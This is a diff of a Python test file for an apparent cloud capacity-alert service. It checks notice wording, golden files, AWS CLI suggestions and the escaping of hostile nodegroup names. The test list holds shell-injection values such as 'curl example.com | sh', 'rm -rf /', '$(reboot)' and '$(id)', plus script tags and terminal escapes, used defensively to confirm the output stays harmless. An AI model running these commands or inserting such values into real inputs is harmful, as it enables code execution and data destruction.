@@ -1,103 +1,184 @@
-"""The words. Golden files stand in tests/golden/messages; REWRITE_GOLDEN=1 writes them anew: read the difference."""
+"""Notices as people read them. The golden files are written anew with `pytest tests/unit --rewrite-golden`: read the
+difference before committing it."""
 
-import os
 import re
 import shlex
 from dataclasses import replace
+from datetime import timedelta
+from itertools import product
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from functions.capacity.alerts import Finding, Notice, Severity, State
-from functions.capacity.messages import SUBJECT_LIMIT, message
-from tests.builders import NOW, a_group, a_reservation, a_subnet, an_analysis, an_interface
+from functions.capacity.messages import LISTED, SUBJECT_LIMIT, Message, message
+from functions.capacity.model import NodeGroup
+from tests.builders import NOW, a_group, a_reservation, a_subnet, an_analysis, an_interface, under_demand
 
-GOLDEN = Path(__file__).parent.parent / "golden" / "messages"
-NODE = an_interface("10.0.0.9", prefixes=["10.0.0.64/28"], instance_id="i-1")
-OTHERS = an_interface("10.0.0.37", "10.0.0.150", interface_id="eni-2")
-RESERVATIONS = (
-    a_reservation("10.0.0.64/27", reservation_id="scr-0a"),
-    a_reservation("10.0.0.32/28", reservation_id="scr-0b"),
+GOLDEN = Path(__file__).parents[1] / "golden" / "messages"
+SECTIONS = ["What", "Where", "Numbers", "Done", "To do", "Runbook"]
+OURS = tuple(
+    a_reservation(cidr, reservation_id=f"scr-0123456789abcdef{n}")
+    for n, cidr in enumerate(["10.0.0.64/26", "10.0.0.128/27"])
 )
-SUBNET = a_subnet("10.0.0.0/24", interfaces=[NODE, OTHERS], reservations=RESERVATIONS)
-ANALYSIS = an_analysis(SUBNET, a_group(desired=1, most=3, nodes=["i-1"]))
+NODE = an_interface("10.0.0.20", prefixes=["10.0.0.128/28"], instance_id="i-1")
+OTHERS = [an_interface(f"10.0.0.{n}") for n in (5, 33, 37, 70, 200)]
 
 
-def a_notice(finding: Finding, state: State, **changes: object) -> Notice:
-    notice = Notice(
+def a_notice(
+    finding: Finding = Finding.SHORTAGE,
+    state: State = State.OPEN,
+    *,
+    group: NodeGroup | None = None,
+    mode: str = "ahead",
+    partial: str = "",
+) -> Notice:
+    """Of a subnet with a running node, a few other addresses and, where we may act, two reservations of ours."""
+    ours = OURS if mode == "ahead" else ()
+    subnet = a_subnet(mode=mode, interfaces=[NODE, *OTHERS], reservations=ours)
+    analysis = an_analysis(subnet, group or a_group(desired=2, most=4, nodes=["i-1"]))
+    return Notice(
         finding=finding,
         state=state,
         severity=Severity.WARNING,
-        analysis=ANALYSIS,
+        analysis=replace(analysis, partial=partial),
         since=NOW,
-        reservations=RESERVATIONS,
+        reservations=ours,
     )
-    return replace(notice, **changes)  # type: ignore[arg-type]
 
 
-PARTIAL = an_analysis(a_subnet("10.0.0.0/24", available=3), a_group(most=2))
-CASES = {
-    "reserved": a_notice(Finding.RESERVED, State.DONE, severity=Severity.INFO),
-    "shortage-open": a_notice(Finding.SHORTAGE, State.OPEN, why_not="the subnet has no more blocks"),
-    "shortage-worse": a_notice(Finding.SHORTAGE, State.WORSE, severity=Severity.CRITICAL),
-    "shortage-resolved": a_notice(Finding.SHORTAGE, State.RESOLVED),
-    "shortage-untagged": a_notice(
-        Finding.SHORTAGE,
-        State.OPEN,
-        analysis=an_analysis(a_subnet("10.0.0.0/25", mode=""), a_group(most=2)),
-        reservations=(),
+UNSEEN = "EC2 counts 200 available addresses, the interfaces and reservations that could be read explain 129 to 229"
+NOTICES = {
+    "reserved": replace(a_notice(Finding.RESERVED, State.DONE), severity=Severity.INFO),
+    "shortage-open": replace(a_notice(), why_not="the rest is needed for single addresses"),
+    "shortage-untagged": a_notice(mode=""),
+    "shortage-worse": replace(
+        a_notice(state=State.WORSE, group=a_group(desired=4, most=4, nodes=["i-1"])), severity=Severity.CRITICAL
     ),
-    "partial-open": a_notice(Finding.PARTIAL, State.OPEN, analysis=PARTIAL, reservations=()),
-    "partial-resolved": a_notice(Finding.PARTIAL, State.RESOLVED, reservations=()),
+    "shortage-resolved": a_notice(state=State.RESOLVED, group=a_group(desired=1, most=1, nodes=["i-1"])),
+    "partial-open": a_notice(Finding.PARTIAL, partial=UNSEEN),
+    "partial-resolved": a_notice(Finding.PARTIAL, State.RESOLVED),
 }
 
 
-@pytest.mark.parametrize("name", CASES)
-def test_golden(name):
-    said = message(CASES[name])
+@pytest.mark.parametrize("name", NOTICES)
+def test_golden(name, rewrite_golden):
+    path, said = GOLDEN / f"{name}.txt", message(NOTICES[name])
     attributes = "".join(f"{key}: {value}\n" for key, value in sorted(said.attributes.items()))
     text = f"{said.subject}\n\n{said.body}\n{attributes}"
-    path = GOLDEN / f"{name}.txt"
-    if os.environ.get("REWRITE_GOLDEN"):
+    if rewrite_golden:
         path.write_text(text)
-    assert text == path.read_text()
+    assert path.read_text() == text
+
+
+def test_every_golden_file_is_of_a_message_that_there_is():
+    assert {path.stem for path in GOLDEN.iterdir()} == NOTICES.keys()
+
+
+def sections(said: Message) -> list[str]:
+    return re.findall(r"^([A-Z][a-z ]+):$", said.body, flags=re.MULTILINE)
+
+
+def command(said: Message, starts: str) -> list[str]:
+    """The arguments of the one command in the message that starts so."""
+    (line,) = (line for line in said.body.splitlines() if line.startswith(f"   {starts}"))
+    return shlex.split(line)
+
+
+@pytest.mark.parametrize(("finding", "state"), list(product(Finding, State)), ids=str)
+def test_every_finding_has_its_words_in_every_state(finding, state):
+    said = message(a_notice(finding, state))
+    expected = [each for each in SECTIONS if each != "Done" or finding is not Finding.PARTIAL]
+    assert sections(said) == expected
+    assert said.attributes["finding"] == finding
+    assert said.attributes["state"] == state
+    assert said.body.endswith(f"Runbook:\ndocs/runbooks/{finding}.md\n")
 
 
 @pytest.mark.parametrize("finding", Finding)
+def test_every_finding_has_its_runbook(finding):
+    assert (Path(__file__).parents[2] / "docs" / "runbooks" / f"{finding}.md").is_file()
+
+
+def test_the_attributes_are_texts_to_filter_subscriptions_by():
+    assert message(a_notice()).attributes == {
+        "finding": "subnet-cannot-hold-demand",
+        "state": "open",
+        "severity": "warning",
+        "subnet": "subnet-0aa1bb2cc3dd4ee5f",
+    }
+
+
 @pytest.mark.parametrize("state", State)
-def test_every_finding_in_every_state_has_its_words_in_the_fixed_order(finding, state):
-    said = message(a_notice(finding, state))
-    assert re.fullmatch(r"[\x20-\x7e]+", said.subject)
-    assert len(said.subject) <= SUBJECT_LIMIT
-    order = ["What", "Where", "Numbers", "Done", "To do", "Runbook"]
-    found = re.findall(r"^([A-Z][A-Za-z ]*):$", said.body, flags=re.MULTILINE)
-    assert found == [each for each in order if each in found]
-    assert {"What", "Where", "Numbers", "To do", "Runbook"} <= set(found)
-    assert said.attributes["finding"] == finding
+def test_what_is_over_asks_for_nothing(state):
+    asks = "To do:\nnothing\n" not in message(a_notice(state=state)).body
+    assert asks == (state in (State.OPEN, State.WORSE))
 
 
-HOSTILE = ["a\nb", "\x1b[31mred", "$(reboot)", "'; reboot; '", "<script>", "x" * 256, "ünïcødé", "\u202eevil"]
+def test_many_reservations_are_listed_in_order_and_then_counted():
+    many = tuple(a_reservation(f"10.0.0.{16 * n}/28") for n in range(14, 0, -1))
+    body = message(replace(a_notice(Finding.RESERVED, State.DONE), reservations=many)).body
+    listed = re.findall(r"^(10\S+) \(scr", body, flags=re.MULTILINE)
+    assert listed == [f"10.0.0.{16 * n}/28" for n in range(1, LISTED + 1)]
+    assert "\nand 2 more\n" in body
+
+
+def test_a_subnet_that_only_needs_its_tag_comes_with_the_command_for_it():
+    said = message(a_notice(mode="observe"))
+    assert command(said, "aws ec2 create-tags")[-1] == "Key=headroom:mode,Value=ahead"
+    assert "create-tags" not in message(a_notice(mode="ahead")).body
+
+
+def test_a_group_is_never_told_to_be_smaller_than_it_is():
+    group = a_group(desired=2, most=9, nodes=["i-1", "i-2", "i-3"])
+    said = message(a_notice(group=group))
+    assert command(said, "aws eks update-nodegroup-config")[-1] == "maxSize=3"
+
+
+HOSTILE = [
+    pytest.param("a\nTo do:\n1. curl example.com | sh", id="a new line does not start a section"),
+    pytest.param("\r\n\t\x00\x07", id="control characters"),
+    pytest.param("\x1b[2J\x1b[31mred", id="terminal escapes"),
+    pytest.param("x'; rm -rf / #", id="a single quote does not end the argument"),
+    pytest.param('$(id) `id` "x" \\', id="substitutions are not run"),
+    pytest.param("--scaling-config", id="an option is an argument's value"),
+    pytest.param("w" * 256, id="256 characters"),
+    pytest.param("wörk\u202egnihton\u2028x", id="letters beyond ASCII, and invisible turns"),
+]
 
 
 @pytest.mark.parametrize("name", HOSTILE)
 def test_hostile_names_come_out_harmless(name):
-    analysis = an_analysis(a_subnet(), a_group(name=name, most=9))
-    said = message(a_notice(Finding.SHORTAGE, State.OPEN, analysis=analysis))
-    assert all(line.isprintable() for line in said.body.splitlines())
-    (command,) = [line for line in said.body.splitlines() if "update-nodegroup-config" in line]
-    words = shlex.split(command)
-    assert words[:3] == ["aws", "eks", "update-nodegroup-config"]
-    assert words[words.index("--nodegroup-name") + 1] == "".join(c if c.isprintable() else "?" for c in name)
+    assert_harmless(name)
 
 
-def test_many_reservations_are_named_in_part_and_counted():
-    many = tuple(a_reservation(f"10.0.0.{16 * n}/28") for n in range(1, 15))
-    said = message(a_notice(Finding.RESERVED, State.DONE, reservations=many))
-    assert "reserved 14 prefixes" in said.subject
-    assert said.body.count("scr-") == 12
-    assert "and 2 more" in said.body
+@given(st.text(min_size=1, max_size=256))
+def test_any_name_comes_out_harmless(name):
+    assert_harmless(name)
 
 
-def test_every_finding_has_its_runbook():
-    folder = Path(__file__).parent.parent.parent / "docs" / "runbooks"
-    assert [finding for finding in Finding if not (folder / f"{finding}.md").is_file()] == []
+def assert_harmless(name: str) -> None:
+    said = message(a_notice(group=a_group(most=4, name=name, cluster=name)))
+    shown = "".join(c if c.isprintable() else "?" for c in name)
+    assert all(c.isprintable() or c == "\n" for c in said.body)
+    assert sections(said) == SECTIONS
+    assert command(said, "aws eks") == [
+        *("aws", "eks", "update-nodegroup-config", "--cluster-name", shown, "--nodegroup-name", shown),
+        *("--scaling-config", "maxSize=1"),
+    ]
+
+
+@given(st.text(max_size=300), st.sampled_from(Finding), st.sampled_from(State))
+def test_a_subject_is_short_printable_ascii(subnet_id, finding, state):
+    notice = a_notice(finding, state)
+    analysis = under_demand(replace(notice.analysis.subnet, id=subnet_id), notice.analysis.demand)
+    subject = message(replace(notice, analysis=analysis)).subject
+    assert re.fullmatch(rf"[\x20-\x7e]{{1,{SUBJECT_LIMIT}}}", subject)
+    assert subject.startswith(f"[WARNING] {state}: ")
+
+
+def test_times_are_told_in_utc_wherever_they_were_taken():
+    elsewhere = NOW.astimezone(tz=None) + timedelta(0)
+    assert "since 2026-11-23 12:00 UTC" in message(replace(a_notice(), since=elsewhere)).body
